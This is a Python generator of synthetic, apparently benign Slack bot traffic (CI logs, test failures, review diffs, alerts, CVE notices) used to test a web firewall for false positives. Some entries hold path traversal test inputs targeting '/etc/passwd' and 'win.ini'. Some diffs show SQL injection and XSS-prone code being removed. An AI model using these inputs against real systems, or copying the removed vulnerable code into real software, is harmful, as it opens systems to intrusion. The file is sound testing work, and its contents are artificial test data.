"""Benign Slack traffic that other apps and integrations cause: what a busy engineering workspace's bots
(CI/CD, monitoring, incident tools, issue trackers, code review, security scanners, database tools, cloud
consoles, Workflow Builder) post, which Slack then delivers to Jeeves at /slack/events, plus the slash
commands, clicks, modal submissions and message shortcuts that users make around those messages.

Kinds (`sub`), all category "benign":
  /slack/events (placement "json"): ci_build, test_failure, code_review, monitoring_alert, incident,
    issue_tracker, security_finding, slow_query, cloud_console (bot messages with legacy attachments and
    Block Kit), link_shared (unfurl requests for URLs with long query strings), message_changed (edited bot
    messages and unfurls added to messages), app_home_opened (with the Home view Jeeves published),
    workflow_form (Workflow Builder form posts, workflow_step_execute, function_executed), file_snippet
    (snippets shared with their preview and highlighted preview).
  /slack/commands (placement "form"): slash_command (`/jeeves ...`, including code and paths users type).
  /slack/interactions (placement "form"): block_actions (Jeeves's buttons, on messages that carry
    attachments), view_submission (Jeeves's modals with multi-line inputs), message_shortcut (Jeeves's
    message shortcuts used on other bots' messages).

How it was written: by a fourth, independent author, from the Slack platform's documented payload formats
and general knowledge of what these tools post, and from Jeeves's own Slack code (app/routes/slack.py,
app/services/) for what it publishes. The author did not read the WAF rules (lua/), the CRS files, the
other generators' payload or text lists, the shared corpus, or the test data, and the records were not
changed after the measurement. Deterministic: one seeded random.Random and a fixed epoch, no clock.
Signatures are placeholders: the replayer re-signs Slack records at send time.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import re
import string
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any

from .records import no_attacks
from .records import slack_escape as _esc

EPOCH = 1719000000  # 2024-06-21T20:00:00Z
SEED = 41_500_004
SLACK_UA = "Slackbot 1.0 (+https://api.slack.com/robots)"
APP_ID = "A0PNCHHK2"  # Jeeves
BASE_URL = "https://jeeves.acme.dev"
_UP = string.ascii_uppercase + string.digits
_ALNUM = string.ascii_letters + string.digits

Doc = dict[str, Any]


def _h(name: str, n: int = 9) -> str:
    """A stable Slack-style id body for a name (upper-case base32 of its digest)."""
    return base64.b32encode(hashlib.sha256(name.encode()).digest()).decode()[:n]


def _token(name: str) -> str:
    return base64.b64encode(hashlib.sha256(name.encode()).digest()).decode().replace("+", "").replace("/", "")[:24]


def _fill(template: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        template = template.replace(f"«{key}»", value)
    return template


# ---- the workspace ------------------------------------------------------------------------------------------
TEAMS = [("T061EG9R6", "acme-eng"), ("T02QK8Z1M4P", "northwind"), ("T7H3KD0QX", "globex"),
         ("T04ABCD1234", "initech"), ("T0123ABCD", "hooli-dev"), ("T05SLK9ZZ", "umbrella-labs"),
         ("T9WXY12AB", "stark-industries"), ("T03PLM7QR", "wayne-enterprises")]
PEOPLE = [("Ann Lee", "ann.lee"), ("Bikram Kumar", "bkumar"), ("Carlos Ruiz", "carlos"), ("Dmitri Volkov", "dvolkov"),
          ("Eve Martin", "eve"), ("Fatima Zahra", "fzahra"), ("Gwen O'Brien", "gobrien"), ("Hiro Tanaka", "htanaka"),
          ("Ilse de Vries", "ilse"), ("Jonas Müller", "jmuller"), ("Kemi Adeyemi", "kemi"), ("Luca Rossi", "lrossi"),
          ("Mei Chen", "meichen"), ("Noor Haddad", "nhaddad"), ("Olu Bello", "obello"), ("Priya Nair", "pnair"),
          ("Quentin Dubois", "qdubois"), ("Rosa Álvarez", "ralvarez"), ("Sven Lindqvist", "svenl"),
          ("Tomasz Nowak", "tnowak")]
SERVICES = ["checkout", "payments-api", "auth-service", "search-indexer", "notifications", "billing-worker",
            "web-frontend", "api-gateway", "inventory", "reporting", "user-profile", "media-transcoder", "ledger",
            "jeeves", "geo-lookup", "email-sender"]
REPOS = ["checkout", "payments-api", "web", "auth-service", "infra", "data-pipeline", "search", "mobile-ios",
         "jeeves", "helm-charts", "terraform-live", "notifications", "ledger", "billing"]
BRANCHES = ["main", "main", "main", "develop", "release/2024.06", "feat/checkout-retry", "fix/null-currency-in-refunds",
            "renovate/pg-8.x", "dependabot/npm_and_yarn/web/axios-1.7.2", "hotfix/cve-2024-4577", "chore/go-1.22",
            "feature/OPS-1423-upload-limit", "ann/faster-search-index", "revert-1432-fix/orders-query",
            "release/v2.15", "mei/remove-legacy-sessions"]
ENVS = ["prod", "prod", "staging", "dev", "prod-eu", "prod-us", "sandbox"]
REGIONS = ["us-east-1", "eu-west-1", "eu-central-1", "us-west-2", "ap-southeast-2"]
ACCOUNTS = ["123456789012", "210987654321", "555566667777", "998877665544"]
CHANNELS = {
    "ci": ["ci", "ci-alerts", "builds", "deploys", "release-train", "eng-backend", "frontend"],
    "review": ["code-review", "eng-backend", "frontend", "pull-requests", "platform", "mobile"],
    "alerts": ["alerts-prod", "alerts-staging", "sre", "oncall", "platform-alerts", "payments-alerts"],
    "incident": ["incidents", "inc-412-checkout-5xx", "inc-418-login-latency", "status-updates", "sre"],
    "issues": ["jira-ops", "bugs", "triage", "product-feedback", "eng-backend", "support-escalations"],
    "security": ["security-alerts", "appsec", "vuln-mgmt", "secops", "dependabot"],
    "db": ["db-ops", "data-eng", "dba", "analytics", "platform"],
    "cloud": ["aws-notifications", "k8s", "infra", "cloud-costs", "terraform", "gcp-alerts"],
    "general": ["general", "random", "dev", "eng", "help-engineering", "til"],
    "workflow": ["access-requests", "it-helpdesk", "oncall-handoff", "standup", "incident-intake", "deploy-requests"],
}
PLACES = ["Paris, FR", "São Paulo, BR", "Zürich, CH", "L'Aquila, IT", "St. John's, CA", "Washington, US", "Köln, DE",
          "Ho Chi Minh City, VN", "Reykjavík, IS", "Kraków, PL", "O'Fallon, US", "Winston-Salem, US",
          "Saint-Étienne, FR", "Tokyo, JP", "Aix-en-Provence, FR", "Dún Laoghaire, IE", "Lagos, NG", "Austin, US",
          "Bengaluru, IN", "Málaga, ES", "Christchurch, NZ", "Montréal, CA", "Gdańsk, PL", "Tromsø, NO"]
TIMEZONES = ["UTC", "Europe/Paris", "America/Argentina/Buenos_Aires", "America/Indiana/Indianapolis", "Asia/Kolkata",
             "Europe/London", "America/New_York", "Australia/Lord_Howe", "Etc/GMT+5", "Pacific/Chatham",
             "America/Los_Angeles", "Asia/Tokyo", "Europe/Berlin", "Africa/Lagos"]
WEATHER = ["clear sky", "light rain", "overcast", "thunderstorm", "mainly clear", "fog", "drizzle", "snow showers"]


def _app(name: str) -> dict[str, str]:
    icon_id = int(_h("icon" + name, 6), 36)
    return {"name": name, "bot_id": "B0" + _h("bot" + name), "app_id": "A0" + _h("app" + name),
            "user": "U0" + _h("botuser" + name),
            "icon": f"https://avatars.slack-edge.com/2023-0{len(name) % 9 + 1}-1{len(name) % 9}/"
                    f"{icon_id}_{_h('img' + name, 20).lower()}_72.png"}


# ---- log, code and query material (values are filled in per record) ----------------------------------------
BUILD_LOGS = [
    """Traceback (most recent call last):
  File "/app/«mod»/worker.py", line «line», in run
    batch = self.queue.receive(max_messages=10, wait_time=20)
  File "/usr/local/lib/python3.12/site-packages/botocore/client.py", line 565, in _api_call
    return self._make_api_call(operation_name, kwargs)
botocore.exceptions.ClientError: An error occurred (AccessDenied) when calling the ReceiveMessage operation: \
User: arn:aws:sts::«account»:assumed-role/«svc»-task/1f2e3d is not authorized to perform: sqs:receivemessage""",
    """npm ERR! code ERESOLVE
npm ERR! ERESOLVE unable to resolve dependency tree
npm ERR!
npm ERR! While resolving: web@«ver»
npm ERR! Found: react@18.3.1
npm ERR! node_modules/react
npm ERR!   react@"^18.2.0" from the root project
npm ERR!
npm ERR! Could not resolve dependency:
npm ERR! peer react@"^17.0.0" from react-beautiful-dnd@13.1.1""",
    """--- FAIL: TestBucketRefill (0.00s)
    bucket_test.go:«line»: got 9 tokens after 1s, want 10
--- FAIL: TestBucketBurst/burst_of_200 (0.01s)
    bucket_test.go:88: Allow() = false, want true
FAIL
FAIL\tgithub.com/acme/«svc»/pkg/ratelimit\t0.412s
FAIL""",
    """#12 [build 4/7] RUN go build -trimpath -ldflags="-s -w -X main.version=«ver»" -o /out/server ./cmd/server
#12 41.27 internal/billing/invoice.go:«line»:14: undefined: money.FromCents
#12 ERROR: process "/bin/sh -c go build -trimpath -ldflags=\\"-s -w -X main.version=«ver»\\" -o /out/server \
./cmd/server" did not complete successfully: exit code: 1
------
 > [build 4/7] RUN go build ...:
------
Dockerfile:14
ERROR: failed to solve: process "/bin/sh -c go build" did not complete successfully: exit code: 1""",
    """src/components/CartSummary.tsx(«line»,17): error TS2339: Property 'currency' does not exist on type 'Order'.
src/pages/checkout/index.tsx(88,5): error TS2322: Type 'string | undefined' is not assignable to type 'string'.
  Type 'undefined' is not assignable to type 'string'.
Found 2 errors in 2 files.""",
    """/home/runner/work/web/web/src/pages/index.tsx
  12:7   error    'unused' is assigned a value but never used  @typescript-eslint/no-unused-vars
  «line»:15  warning  React Hook useEffect has a missing dependency: 'fetchOrders'  react-hooks/exhaustive-deps

✖ 2 problems (1 error, 1 warning)""",
    """+ ./scripts/deploy.sh --env «env» --tag v«ver»
+ kubectl -n «env» set image deploy/«svc» app=ghcr.io/acme/«svc»:v«ver»
deployment.apps/«svc» image updated
+ kubectl -n «env» rollout status deploy/«svc» --timeout=180s
Waiting for deployment "«svc»" rollout to finish: 1 of 3 updated replicas are available...
error: deployment "«svc»" exceeded its progress deadline""",
    """Error: creating IAM Role (ci-deployer-«env»): operation error IAM: CreateRole, https response error \
StatusCode: 409, RequestID: 6f1c2a8e-4b9d-4e2f-9a77-1c0d3b5e8f21, EntityAlreadyExists: Role with name \
ci-deployer-«env» already exists.

  with module.ci.aws_iam_role.deployer,
  on modules/ci/main.tf line «line», in resource "aws_iam_role" "deployer":
  «line»: resource "aws_iam_role" "deployer" {""",
    """Release "«svc»" does not exist. Installing it now.
Error: UPGRADE FAILED: another operation (install/upgrade/rollback) is in progress
helm.go:84: [debug] another operation (install/upgrade/rollback) is in progress""",
    """java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null
\tat com.acme.auth.TokenService.issue(TokenService.java:«line»)
\tat com.acme.auth.TokenController.login(TokenController.java:41)
\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)
\tat org.springframework.web.method.support.InvocableHandlerMethod.doInvoke(InvocableHandlerMethod.java:255)
\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:885)""",
    """error[E0502]: cannot borrow `buf` as mutable because it is also borrowed as immutable
  --> src/codec.rs:«line»:9
   |
52 |         let head = &buf[..4];
   |                     --- immutable borrow occurs here
53 |         buf.clear();
   |         ^^^^^^^^^^^ mutable borrow occurs here
54 |         Ok(u32::from_be_bytes(head.try_into()?))
   |                               ---- immutable borrow later used here""",
    """> Task :auth:test FAILED

TokenServiceTest > issuesTokenForActiveUser() FAILED
    org.opentest4j.AssertionFailedError at TokenServiceTest.java:«line»

42 tests completed, 1 failed

FAILURE: Build failed with an exception.
* What went wrong:
Execution failed for task ':auth:test'.""",
    """PHP Fatal error:  Uncaught Error: Call to undefined method App\\Models\\Order::totalWithTax() in \
/var/www/html/app/Http/Controllers/OrderController.php:«line»
Stack trace:
#0 /var/www/html/vendor/laravel/framework/src/Illuminate/Routing/Controller.php(54): \
App\\Http\\Controllers\\OrderController->show()
#1 {main}
  thrown in /var/www/html/app/Http/Controllers/OrderController.php on line «line»""",
    """Failures:

  1) Api::V2::OrdersController POST /api/v2/orders with an expired coupon returns 422
     Failure/Error: expect(response).to have_http_status(:unprocessable_entity)
       expected the response to have status code :unprocessable_entity (422) but it was :ok (200)
     # ./spec/requests/api/v2/orders_spec.rb:«line»:in `block (4 levels) in <top (required)>'""",
    """ERROR: Cannot install -r requirements.txt (line 14) and urllib3==2.2.1 because these package versions \
have conflicting dependencies.

The conflict is caused by:
    The user requested urllib3==2.2.1
    botocore 1.34.12 depends on urllib3<2.1 and >=1.25.4; python_version >= "3.10"
""",
    """Killed
make: *** [Makefile:«line»: build] Error 137
##[error]Process completed with exit code 2.""",
    """In scripts/deploy.sh line «line»:
for f in $(ls $DIR/*.yaml); do
         ^-----------^ SC2045 (error): Iterating over ls output is fragile. Use globs.
              ^--^ SC2086 (info): Double quote to prevent globbing and word splitting.

Did you mean:
for f in $(ls "$DIR"/*.yaml); do""",
    """INFO  [alembic.runtime.migration] Context impl PostgresqlImpl.
INFO  [alembic.runtime.migration] Will assume transactional DDL.
ERROR [alembic.util.messaging] Can't locate revision identified by '3f2a1c9b7e4d'
  FAILED: Can't locate revision identified by '3f2a1c9b7e4d'""",
    """psql: error: connection to server at "db.«env».acme.internal" (10.20.3.14), port 5432 failed: \
FATAL:  password authentication failed for user "ci"
connection to server at "db.«env».acme.internal" (10.20.3.14), port 5432 failed: FATAL:  no pg_hba.conf entry \
for host "10.20.7.31", user "ci", database "«mod»", no encryption""",
    """ERROR in ./src/pages/checkout/index.tsx 12:0-53
Module not found: Error: Can't resolve '@/components/CartSummary' in '/home/runner/work/web/web/src/pages/checkout'
resolve '@/components/CartSummary' in '/home/runner/work/web/web/src/pages/checkout'
  Parsed request is a module
webpack 5.91.0 compiled with 1 error in «line»03 ms""",
    """app/services/orders.py:«line»: error: Argument 1 to "refund" of "PaymentClient" has incompatible type \
"str | None"; expected "str"  [arg-type]
app/routes/admin.py:212: error: Item "None" of "Optional[User]" has no attribute "email"  [union-attr]
Found 2 errors in 2 files (checked 214 source files)""",
    """Step 7/12 : RUN apt-get update && apt-get install -y --no-install-recommends libpq-dev gcc \
&& rm -rf /var/lib/apt/lists/*
 ---> Running in 4be1f3c9a2d7
E: Failed to fetch http://deb.debian.org/debian/dists/bookworm/InRelease  Temporary failure resolving \
'deb.debian.org'
E: Some index files failed to download. They have been ignored, or old ones used instead.
The command '/bin/sh -c apt-get update && apt-get install -y libpq-dev gcc' returned a non-zero code: 100""",
    """[ERROR] Failed to execute goal org.apache.maven.plugins:maven-surefire-plugin:3.2.5:test (default-test) on \
project ledger-core: There are test failures.
[ERROR]
[ERROR] Please refer to /builds/acme/ledger/ledger-core/target/surefire-reports for the individual test results.
[ERROR] -> [Help 1]""",
    """$ curl -fsS --retry 5 --retry-delay 3 https://«env».acme.dev/healthz
curl: (22) The requested URL returned error: 503
$ kubectl -n «env» logs deploy/«svc» --tail=20 | grep -i error
{"level":"error","ts":«epoch».114,"msg":"failed to connect to redis","addr":"redis-master:6379",\
"error":"dial tcp 10.0.12.7:6379: connect: connection refused"}""",
    """error CS0246: The type or namespace name 'Newtonsoft' could not be found (are you missing a using directive \
or an assembly reference?) [/src/Acme.Reports/Acme.Reports.csproj]
Build FAILED.
    0 Warning(s)
    1 Error(s)""",
]
STEP_NAMES = ["Run pytest -q --maxfail=1 --cov=app", "npm run build", "go test ./... -race -count=1",
              "docker buildx build --platform linux/amd64,linux/arm64 --push .", "./gradlew :auth:test --no-daemon",
              "bundle exec rspec spec/requests", "helm upgrade --install --atomic --timeout 5m",
              "terraform apply -auto-approve tfplan", "make lint typecheck",
              "cargo clippy --all-targets -- -D warnings",
              "mvn -B -ntp verify -Pintegration", "npx playwright test --project=chromium", "alembic upgrade head",
              "pip install -r requirements.txt", "yarn tsc --noEmit", "./scripts/smoke.sh", "dotnet build -c Release"]
TEST_FAILURES = [
    ("pytest", """_________________________ test_refund_partial[«cur»] _________________________

    def test_refund_partial(client, order_factory, currency):
        order = order_factory(total_cents=4250, currency=currency)
        resp = client.post(f"/api/v2/orders/{order.id}/refunds", json={"amount_cents": 50})
>       assert resp.json()["remaining_cents"] == 4200
E       AssertionError: assert 4250 == 4200

tests/api/test_refunds.py:«line»: AssertionError"""),
    ("pytest", """FAILED tests/test_uploads.py::test_rejects_traversal[../../etc/passwd] - assert 200 == 400
FAILED tests/test_uploads.py::test_rejects_traversal[..\\\\..\\\\windows\\\\win.ini] - assert 200 == 400
FAILED tests/test_uploads.py::test_content_disposition_is_quoted - AssertionError: \
'attachment; filename=report q2.csv' != 'attachment; filename="report q2.csv"'
=========== 3 failed, 412 passed, 6 skipped in «line».21s ==========="""),
    ("jest", """  ● CartSummary › renders the total with the currency symbol

    expect(element).toHaveTextContent()

    Expected element to have text content:
      €42.00
    Received:
      42.00

      40 |   render(<CartSummary order={order} locale="fr-FR" />);
      41 |   const total = screen.getByTestId("cart-total");
    > «line» |   expect(total).toHaveTextContent("€42.00");
         |                 ^"""),
    ("go", """--- FAIL: TestParseDuration (0.00s)
    --- FAIL: TestParseDuration/90m (0.00s)
        duration_test.go:«line»: ParseDuration("90m") = 1h0m0s, want 1h30m0s
FAIL
FAIL\tgithub.com/acme/«svc»/internal/timeutil\t0.018s"""),
    ("junit", """com.acme.ledger.PostingServiceTest > rejectsUnbalancedJournal() FAILED
    org.opentest4j.AssertionFailedError: Expected com.acme.ledger.UnbalancedJournalException to be thrown, \
but nothing was thrown.
        at app//org.junit.jupiter.api.AssertThrows.assertThrows(AssertThrows.java:73)
        at app//com.acme.ledger.PostingServiceTest.rejectsUnbalancedJournal(PostingServiceTest.java:«line»)"""),
    ("rspec", """  1) User.search with a name containing an apostrophe finds O'Brien
     Failure/Error: expect(User.search("O'Brien")).to include(user)
       expected #<ActiveRecord::Relation []> to include #<User id: 17, name: "Gwen O'Brien", \
email: "gwen@example.com">
     # ./spec/models/user_spec.rb:«line»:in `block (3 levels) in <top (required)>'"""),
    ("playwright", """  1) [chromium] › checkout.spec.ts:«line»:5 › guest can place an order ─────────────────

    Error: Timed out 5000ms waiting for expect(locator).toBeVisible()

    Locator: getByRole('button', { name: 'Place order' })
    Expected: visible
    Received: <element(s) not found>

      55 |   await page.getByLabel('Card number').fill('4242 4242 4242 4242');
    > 57 |   await expect(page.getByRole('button', { name: 'Place order' })).toBeVisible();"""),
    ("dbt", """Failure in test unique_orders_id (models/marts/schema.yml)
  Got 3 results, configured to fail if != 0

  compiled code at target/compiled/acme/models/marts/schema.yml/unique_orders_id.sql

select
    id as unique_field,
    count(*) as n_records
from analytics.marts.orders
where id is not null
group by id
having count(*) > 1"""),
    ("phpunit", """1) Tests\\Feature\\OrderTest::test_guest_cannot_view_order
Expected response status code [403] but received 200.
Failed asserting that 200 is identical to 403.

/var/www/html/tests/Feature/OrderTest.php:«line»

FAILURES!
Tests: 184, Assertions: 502, Failures: 1."""),
    ("pytest", """____________________ test_search_escapes_like_wildcards ____________________
tests/test_search.py:«line»: in test_search_escapes_like_wildcards
    assert [u.name for u in search("100%_off")] == ["100%_off promo"]
E   AssertionError: assert ['100% off banner', '100%_off promo', '1000_offers'] == ['100%_off promo']
E     At index 0 diff: '100% off banner' != '100%_off promo'"""),
    ("vitest", """ FAIL  src/utils/markdown.test.ts > renderMarkdown > escapes raw HTML
AssertionError: expected '<p>&lt;b&gt;hi&lt;/b&gt;</p>' to equal '<p><b>hi</b></p>'
 ❯ src/utils/markdown.test.ts:«line»:43

 Test Files  1 failed | 57 passed (58)
      Tests  1 failed | 412 passed (413)"""),
    ("cargo", """---- codec::tests::decodes_split_frames stdout ----
thread 'codec::tests::decodes_split_frames' panicked at src/codec.rs:«line»:9:
assertion `left == right` failed
  left: Some(Frame { len: 4, kind: Ping })
 right: None
note: run with `RUST_BACKTRACE=1` environment variable to display a backtrace"""),
]
DIFFS = [
    ("src/api/handlers/orders.py", """@@ -41,7 +41,9 @@ def list_orders(request):
     customer_id = request.args.get("customer_id")
-    rows = db.execute(f"SELECT * FROM orders WHERE customer_id = {customer_id} ORDER BY created_at DESC")
+    rows = db.execute(
+        "SELECT * FROM orders WHERE customer_id = %s ORDER BY created_at DESC", (customer_id,)
+    )
     return jsonify([Order.from_row(r).as_dict() for r in rows])"""),
    ("web/src/components/SearchResults.tsx", """@@ -18,9 +18,7 @@ export function SearchResults({ query, hits }) {
   useEffect(() => {
-    if (ref.current) {
-      ref.current.innerHTML = `<em>${hits.length}</em> results for <b>${query}</b>`;
-    }
+    // rendered by React below, so the query is escaped
   }, [hits, query]);
-  return <div ref={ref} className="results-summary" />;
+  return <div className="results-summary"><em>{hits.length}</em> results for <b>{query}</b></div>;"""),
    ("Dockerfile", """@@ -1,12 +1,14 @@
-FROM python:3.11-slim
+FROM python:3.12-slim AS base
+ENV PYTHONDONTWRITEBYTECODE=1 PIP_NO_CACHE_DIR=1
 WORKDIR /app
 COPY requirements.lock .
-RUN pip install -r requirements.lock
+RUN pip install --require-hashes -r requirements.lock && useradd -r -u 10001 app
 COPY . .
-CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:create_app()"]
+USER 10001
+CMD ["hypercorn", "--bind", "0.0.0.0:8000", "app:create_app()"]"""),
    ("deploy/nginx/conf.d/api.conf", """@@ -12,8 +12,10 @@ server {
     listen 443 ssl http2;
     server_name api.acme.dev;
-    client_max_body_size 1m;
+    client_max_body_size 25m;
     location /uploads/ {
+        proxy_request_buffering off;
         proxy_pass http://uploads:8080;
+        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
     }"""),
    ("charts/checkout/values-prod.yaml", """@@ -4,11 +4,14 @@ replicaCount: 3
 resources:
   limits:
-    memory: 512Mi
+    memory: 1Gi
   requests:
     cpu: 250m
 env:
-  - name: DATABASE_URL
-    value: postgres://checkout@db.prod.acme.internal:5432/checkout
+  - name: DATABASE_URL
+    valueFrom:
+      secretKeyRef: {name: checkout-db, key: url}"""),
    (".github/workflows/ci.yml", """@@ -20,10 +20,14 @@ jobs:
     steps:
       - uses: actions/checkout@v4
+      - uses: actions/cache@v4
+        with:
+          path: ~/.cache/pip
+          key: pip-${{ runner.os }}-${{ hashFiles('requirements.lock') }}
       - name: Test
         run: |
-          pip install -r requirements.lock
-          pytest -q
+          pip install --require-hashes -r requirements.lock
+          pytest -q -n auto --junitxml=reports/junit.xml"""),
    ("migrations/20240612_add_orders_created_at_idx.sql", """@@ -0,0 +1,8 @@
+-- Speeds up the admin "recent orders" list (see OPS-1377).
+CREATE INDEX CONCURRENTLY IF NOT EXISTS orders_created_at_status_idx
+    ON orders (created_at DESC, status)
+    WHERE deleted_at IS NULL;
+
+-- down
+DROP INDEX CONCURRENTLY IF EXISTS orders_created_at_status_idx;"""),
    ("terraform/modules/ci/iam.tf", """@@ -8,12 +8,16 @@ data "aws_iam_policy_document" "deployer" {
   statement {
     effect    = "Allow"
-    actions   = ["s3:*"]
-    resources = ["*"]
+    actions   = ["s3:GetObject", "s3:PutObject", "s3:ListBucket"]
+    resources = [
+      aws_s3_bucket.artifacts.arn,
+      "${aws_s3_bucket.artifacts.arn}/*",
+    ]
   }"""),
    ("scripts/backup.sh", """@@ -3,9 +3,11 @@
-set -e
+set -euo pipefail
 STAMP=$(date -u +%Y%m%dT%H%M%SZ)
-pg_dump $DATABASE_URL > /tmp/backup-$STAMP.sql
-aws s3 cp /tmp/backup-$STAMP.sql s3://acme-db-backups/
+pg_dump --format=custom "$DATABASE_URL" --file="/tmp/backup-${STAMP}.dump"
+aws s3 cp "/tmp/backup-${STAMP}.dump" "s3://acme-db-backups/${ENV}/" --sse aws:kms
+rm -f "/tmp/backup-${STAMP}.dump\""""),
    ("services/auth/src/main/java/com/acme/auth/TokenService.java", """@@ -80,10 +80,12 @@ public class TokenService {
     public String issue(User user) {
-        if (user.getName().length() == 0) {
+        if (user.getName() == null || user.getName().isBlank()) {
             throw new IllegalArgumentException("user without a name");
         }
-        return signer.sign(Map.of("sub", user.getId(), "name", user.getName()));
+        Instant now = clock.instant();
+        return signer.sign(Map.of("sub", user.getId(), "iat", now.getEpochSecond(),
+                "exp", now.plus(TTL).getEpochSecond()));"""),
    ("app/Http/Controllers/ReportController.php", """@@ -22,7 +22,9 @@ class ReportController extends Controller
     public function index(Request $request)
     {
-        $rows = DB::select("SELECT * FROM reports WHERE team_id = " . $request->input('team'));
+        $rows = DB::table('reports')
+            ->where('team_id', $request->integer('team'))
+            ->orderByDesc('created_at')->limit(100)->get();
         return view('reports.index', ['rows' => $rows]);"""),
    ("app/models/user.rb", """@@ -14,7 +14,7 @@ class User < ApplicationRecord
   scope :search, lambda { |term|
-    where("name LIKE '%#{term}%'")
+    where("name ILIKE ?", "%#{sanitize_sql_like(term)}%")
   }"""),
    ("internal/render/template.go", """@@ -30,8 +30,8 @@ func Render(w io.Writer, name string, data any) error {
-\tt, err := texttemplate.New(name).Parse(src)
+\tt, err := htmltemplate.New(name).Funcs(funcs).Parse(src)
 \tif err != nil {
 \t\treturn fmt.Errorf("parse %s: %w", name, err)
 \t}
-\treturn t.Execute(w, data)
+\treturn t.Execute(w, data) // html/template escapes <script> contexts"""),
    ("src/codec.rs", """@@ -49,9 +49,10 @@ impl Decoder for FrameCodec {
     fn decode(&mut self, buf: &mut BytesMut) -> Result<Option<Frame>, Error> {
-        let head = &buf[..4];
-        buf.clear();
-        Ok(u32::from_be_bytes(head.try_into()?))
+        if buf.len() < 4 {
+            return Ok(None);
+        }
+        let len = u32::from_be_bytes(buf[..4].try_into()?) as usize;"""),
    ("web/package.json", """@@ -14,7 +14,7 @@
   "dependencies": {
-    "axios": "1.6.8",
+    "axios": "1.7.2",
     "react": "^18.3.1",
     "react-dom": "^18.3.1",
-    "lodash": "4.17.15"
+    "lodash": "4.17.21\""""),
]
PR_TITLES = ["fix(orders): parameterize customer_id query", "feat: retry payment capture with exponential backoff",
             "chore(deps): bump axios from 1.6.8 to 1.7.2 in /web", 'Revert "Enable HTTP/2 on the internal ALB"',
             "ci: cache ~/.cache/pip between jobs", "docs: explain how to run `make e2e` locally",
             "refactor: replace innerHTML in SearchResults with JSX", "fix: quote filename in Content-Disposition",
             "perf: index orders(created_at, status) for the admin list", "build(docker): python:3.12-slim, non-root",
             "fix(auth): null name no longer crashes token issue", "nginx: raise upload limit to 25m for /uploads/",
             "security: least-privilege S3 policy for the CI deployer", "backup.sh: set -euo pipefail and quote vars",
             "search: use ILIKE with sanitize_sql_like", "render: switch to html/template",
             "codec: handle frames split across reads", "[OPS-1423] helm: move DATABASE_URL to a secret",
             "WIP: rewrite the rate limiter as a token bucket", "feat(jeeves): weather alerts honour the timezone"]
COMMIT_MSGS = ["Merge pull request #«n» from acme/«branch»", "fix: handle None currency in refunds (#«n»)",
               "bump version to «ver»", "Revert \"feat: new checkout flow\"\n\nThis reverts commit «sha».",
               "wip", "fix typo in README", "tests: cover ../ and %2e%2e in upload names",
               "chore: update CODEOWNERS for /infra/**", "feat: add `--dry-run` to scripts/backfill.py",
               "ci: run e2e only on main && release/*", "refactor(db): move raw SQL into queries/*.sql",
               "Squashed: address review comments (use <details> in the PR template)"]
ALERT_QUERIES = [
    ("Datadog", "avg(last_5m):sum:trace.http.request.errors{service:«svc»,env:«env»}.as_count() / "
                "sum:trace.http.request.hits{service:«svc»,env:«env»}.as_count() > 0.05"),
    ("Datadog", "avg(last_10m):avg:system.cpu.user{env:«env»,service:«svc»} by {host} > 90"),
    ("Datadog", "logs(\"service:«svc» status:error @http.status_code:[500 TO 599]\").index(\"*\")"
                ".rollup(\"count\").last(\"5m\") > 200"),
    ("Prometheus", "sum(rate(http_requests_total{job=\"«svc»\",status=~\"5..\"}[5m])) / "
                   "sum(rate(http_requests_total{job=\"«svc»\"}[5m])) > 0.05"),
    ("Prometheus", "histogram_quantile(0.99, sum by (le, route) "
                   "(rate(http_request_duration_seconds_bucket{job=\"«svc»\"}[5m]))) > 1.5"),
    ("Prometheus", "max_over_time(kube_pod_container_status_waiting_reason{reason=\"CrashLoopBackOff\", "
                   "namespace=\"«env»\"}[5m]) >= 1"),
    ("Prometheus", "(node_filesystem_avail_bytes{mountpoint=\"/\",fstype!=\"tmpfs\"} / "
                   "node_filesystem_size_bytes{mountpoint=\"/\",fstype!=\"tmpfs\"}) * 100 < 10"),
    ("Prometheus", "increase(kube_pod_container_status_restarts_total{namespace=\"«env»\",pod=~\"«svc»-.*\"}[1h]) > 5"),
    ("Loki", "sum by (level) (count_over_time({app=\"«svc»\", env=\"«env»\"} |= \"error\" | json "
             "| level=\"error\" [5m])) > 50"),
    ("New Relic", "SELECT percentile(duration, 95) FROM Transaction WHERE appName = '«svc»-«env»' "
                  "AND name NOT LIKE '%/healthz' FACET name SINCE 30 minutes ago"),
    ("Kibana", "service.name : \"«svc»\" and http.response.status_code >= 500 and not url.path : \"/healthz\""),
    ("Splunk", "index=«env» sourcetype=nginx:access status>=500 | stats count by uri_path "
               "| where count > 100 | sort -count"),
    ("CloudWatch", "SELECT AVG(CPUUtilization) FROM SCHEMA(\"AWS/RDS\", DBInstanceIdentifier) "
                   "WHERE DBInstanceIdentifier = '«svc»-«env»'"),
    ("Grafana", "sum(rate(nginx_ingress_controller_requests{ingress=\"«svc»\",status=~\"4..|5..\"}[2m])) by (status)"),
]
CVES = [
    ("CVE-2021-44228", "log4j-core", "2.14.1", "2.17.1", "Critical",
     "Apache Log4j2 2.0-beta9 through 2.15.0 (excluding security releases 2.12.2, 2.12.3, and 2.3.1) JNDI "
     "features used in configuration, log messages, and parameters do not protect against attacker controlled "
     "LDAP and other JNDI related endpoints. An attacker who can control log messages or log message parameters "
     "can execute arbitrary code loaded from LDAP servers when message lookup substitution is enabled."),
    ("CVE-2020-8203", "lodash", "4.17.15", "4.17.19", "High",
     "Prototype pollution attack when using _.zipObjectDeep in lodash before 4.17.20. The function allows a "
     "malicious user to modify the prototype of Object if the property identifiers are user-supplied."),
    ("CVE-2021-23337", "lodash", "4.17.15", "4.17.21", "High",
     "Lodash versions prior to 4.17.21 are vulnerable to Command Injection via the template function."),
    ("CVE-2024-4577", "php", "8.1.27", "8.1.29", "Critical",
     "In PHP versions 8.1.* before 8.1.29, 8.2.* before 8.2.20, 8.3.* before 8.3.8, when using Apache and "
     "PHP-CGI on Windows, if the system is set up to use certain code pages, Windows may use \"Best-Fit\" "
     "behavior to replace characters in command line given to Win32 API functions. The PHP CGI module may "
     "misinterpret those characters as PHP options, which may allow a malicious user to pass options to PHP "
